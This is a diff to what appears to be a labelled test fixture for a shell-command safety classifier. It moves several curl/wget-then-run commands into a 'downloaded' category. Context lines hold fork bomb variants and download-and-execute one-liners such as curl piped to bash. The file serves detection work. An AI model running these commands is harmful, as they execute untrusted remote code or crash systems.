@@ -114,6 +114,11 @@ curl -o a.py http://x; python3 -c 'import a' | downloaded
 curl -o f.js http://x; node -r ./f app.js | downloaded
 curl http://x/a.tgz | tar xz; cd a && ./configure | downloaded
 for s in a b; do curl -O http://x/$s; bash $s; done | downloaded
+curl -s http://x | tee log; ./run.sh log | downloaded
+curl -o d.json http://x; python3 -u a.py d.json; python3 -u a.py d.json | downloaded
+wget -q "$url" -O out.json; python3 a.py out.json | downloaded
+for i in 1 2; do curl -o f$i http://x/$i; done; python3 merge.py f1 f2 | downloaded
+curl -o "data/$x.json" http://x/; python3 a.py | downloaded
 function b { b|b& }; b | fork bomb
 function b() { b | b & }; b | fork bomb
 b() ( b|b& ); b | fork bomb
@@ -284,11 +289,7 @@ curl -o x http://y && cat x
 curl -s http://x | jq .
 curl -O http://x/y.tgz && tar tzf y.tgz
 curl -o data.json http://x && python3 tools/check.py data.json
-curl -o d.json http://x; python3 -u a.py d.json; python3 -u a.py d.json
 curl -s "http://x/$y" -o out.json; python3 a.py out.json
-wget -q "$url" -O out.json; python3 a.py out.json
-for i in 1 2; do curl -o f$i http://x/$i; done; python3 merge.py f1 f2
-curl -o "data/$x.json" http://x/; python3 a.py
 curl -XPOST -i -H "A: $t" http://x; node cli.js
 curl -s http://x | python3 -m json.tool
 curl -s http://x | python3 -c 'import json, sys; json.load(sys.stdin)'
@@ -296,7 +297,6 @@ timeout 5 python3 a.py data.json && curl -s http://x
 bash -c 'python3 a.py; curl -s http://x'
 source venv/bin/activate; curl -o data.json http://x
 chmod +x run.sh; ./run.sh; curl -s http://x
-curl -s http://x | tee log; ./run.sh log
 python3 -c "print('$(date)')"
 python3 x.py "$(curl http://x)"
 busybox rm -rf build
